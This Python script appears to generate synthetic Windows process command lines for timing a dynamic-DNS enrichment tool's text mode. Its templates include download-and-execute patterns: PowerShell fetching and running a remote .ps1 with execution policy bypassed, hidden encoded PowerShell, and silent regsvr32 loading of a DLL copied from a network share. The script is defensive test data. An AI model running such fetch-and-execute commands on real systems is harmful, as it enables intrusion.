#!/usr/bin/env python3
"""Writes a CSV of Sysmon-like process command lines (column `CommandLine`)
for timing text mode (`dynamicdns enrich --text --field CommandLine`;
DESIGN.md "Text mode"): Windows command lines of the usual shapes (paths,
switches, URLs, UNC paths, base64), about 300 bytes each; one in 100 names a
host below a zone drawn from the zone list, the rest only ordinary hosts.
Deterministic for a given N, zone list and seed.

Usage: gen_cmdlines.py N ZONES_CSV [SEED] > OUT.csv
"""
import csv
import random
import sys

n, zones_csv = int(sys.argv[1]), sys.argv[2]
rng = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 1)
with open(zones_csv, newline="") as f:
    zones = [r["zone"] for r in csv.DictReader(f)]

BENIGN = ["download.windowsupdate.com", "github.com", "raw.githubusercontent.com",
          "login.microsoftonline.com", "fileserver01.corp.example.local", "cdn.jsdelivr.net",
          "pypi.org", "www.google.com", "sharepoint.contoso.com", "10.20.30.40"]
USERS = ["alice", "bob", "svc_backup", "Administrator", "j.smith"]
WORDS = ["update", "setup", "payload", "report_2024.11", "invoice", "agent", "tmp4F2A", "config"]


def word():
    return rng.choice(WORDS) + str(rng.randint(0, 999))


def guid():
    return "{%08x-%04x-%04x-%04x-%012x}" % tuple(rng.getrandbits(b) for b in (32, 16, 16, 16, 48))


def b64(k):
    a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(rng.choice(a) for _ in range(k))


TEMPLATES = [
    lambda h: '"C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
              "--field-trial-handle=1852,i,%d,%d,262144 --lang=en-US --device-scale-factor=1 "
              "--num-raster-threads=4 --renderer-client-id=%d --time-ticks-at-unix-epoch=-1700000000000 "
              "--mojo-platform-channel-handle=%d /prefetch:1 https://%s/%s"
              % (rng.getrandbits(40), rng.getrandbits(40), rng.randint(5, 900), rng.randint(1000, 9999), h, word()),
    lambda h: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri '
              'https://%s/%s/%s.ps1 -OutFile $env:TEMP\\%s.ps1; & $env:TEMP\\%s.ps1 -Verbose"'
              % (h, word(), word(), word(), word()),
    lambda h: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -enc %s '
              "-server %s" % (b64(rng.randint(120, 200)), h),
    lambda h: 'C:\\Windows\\system32\\cmd.exe /c "copy \\\\%s\\share\\%s.dll %%TEMP%%\\%s.dll && '
              'regsvr32.exe /s %%TEMP%%\\%s.dll && del %%TEMP%%\\%s.dll" > nul 2>&1'
              % (h, word(), word(), word(), word()),
    lambda h: "curl.exe -s -k -o C:\\Users\\%s\\AppData\\Local\\Temp\\%s.tmp http://%s:8080/%s?id=%s&v=1.2.3 "
              "--user-agent \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"" % (rng.choice(USERS), word(), h, word(), guid()),
    lambda h: '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths '
              '@"C:\\Users\\%s\\AppData\\Local\\Temp\\%s.cmdline" /reference:System.dll /r:%s'
              % (rng.choice(USERS), guid(), h),
    lambda h: "msiexec.exe /i https://%s/dl/%s.msi /qn /L*v C:\\Windows\\Temp\\%s.log TRANSFORMS=%s.mst"
              % (h, word(), word(), word()),
    lambda h: '"C:\\Program Files\\Git\\mingw64\\bin\\git.exe" -c credential.helper=manager fetch --progress '
              "--prune origin https://%s/%s/%s.git +refs/heads/*:refs/remotes/origin/*"
              % (h, rng.choice(USERS), word()),
    lambda h: "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL "
              '"C:\\Windows\\System32\\desk.cpl",,0 /server:%s /ProcessGuid:%s' % (h, guid()),
]

w = csv.writer(sys.stdout, lineterminator="\n")
w.writerow(["CommandLine"])
for i in range(n):
    if i % 100 == 0:
        host = "%s.%s" % (word().replace(".", "-").lower(), rng.choice(zones))
    else:
        host = rng.choice(BENIGN)
    w.writerow([TEMPLATES[i % len(TEMPLATES)](host)])
